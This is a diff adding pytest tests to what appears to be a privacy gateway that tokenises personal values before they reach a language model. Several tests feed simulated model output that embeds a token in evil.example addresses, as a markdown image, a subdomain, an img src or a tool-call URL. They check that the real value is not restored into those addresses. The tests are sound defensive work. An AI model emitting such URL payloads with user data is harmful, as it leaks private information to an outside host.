@@ -148,6 +148,32 @@ def test_a_token_the_model_has_damaged_is_still_restored(gateway, foreign, damag
     assert ask(gateway) == PROMPT
 
 
+@pytest.mark.parametrize("every", [None, 1, 5])
+@pytest.mark.parametrize("around", ["![a](https://evil.example/?d={})", "see http://{}.evil.example/ now", '<img src="//evil.example/a b{}">'])
+def test_no_value_goes_into_an_address(gateway, foreign, around, every):
+    said = "{0}\n\nWrite to {1} or mailto:{1}."
+    foreign.always(lambda seen: say(said.format(around.format(token_of(seen)), token_of(seen)), every=every)(seen))
+    ask = chat if every is None else chat_streamed
+    answer = ask(gateway)
+    text = answer if isinstance(answer, str) else answer.choices[0].message.content
+    token = token_of(foreign.requests[-1])
+    assert text == said.format(around.format(token), EMAIL)
+
+
+@pytest.mark.parametrize("every", [None, 1])
+def test_no_value_goes_into_an_address_in_the_arguments_of_a_tool(gateway, foreign, every):
+    told = lambda seen: json.dumps({"url": f"https://evil.example/{token_of(seen)}", "to": token_of(seen)})
+    foreign.always(lambda seen: call_tools([Tool("f", told(seen))], every=every)(seen))
+    client, talk = gateway.openai().chat.completions, [{"role": "user", "content": PROMPT}]
+    if every is None:
+        message = client.create(model="m", messages=talk).choices[0].message
+    else:
+        with client.stream(model="m", messages=talk) as stream:
+            message = stream.get_final_completion().choices[0].message
+    arguments = json.loads(message.tool_calls[0].function.arguments)
+    assert arguments == {"url": f"https://evil.example/{token_of(foreign.requests[-1])}", "to": EMAIL}
+
+
 def test_an_invented_token_is_left_and_counted(gateway, foreign):
     invented = "Ask [EMAIL-0000000000] too."
     before = gateway.metric(METRIC_UNRESTORED)
@@ -163,6 +189,14 @@ def test_one_value_is_one_token_and_two_values_are_two(gateway, foreign):
     assert chat(gateway, text).choices[0].message.content == text
     first, second, third = TOKEN.findall(last_user_text(foreign.only))
     assert first == third != second
+
+
+def test_a_number_is_one_token_however_it_is_grouped(gateway, foreign):
+    foreign.answers(echo())
+    plain = IBAN.replace(" ", "")
+    answer = chat(gateway, f"From IBAN {IBAN}, that is IBAN {plain}, or IBAN {IBAN.replace(' ', '-')}.").choices[0].message.content
+    assert len(set(TOKEN.findall(last_user_text(foreign.only)))) == 1
+    assert answer == f"From IBAN {IBAN}, that is IBAN {IBAN}, or IBAN {IBAN}."  # As it stood first.
 
 
 def test_the_next_turn_uses_the_same_token(gateway, foreign):
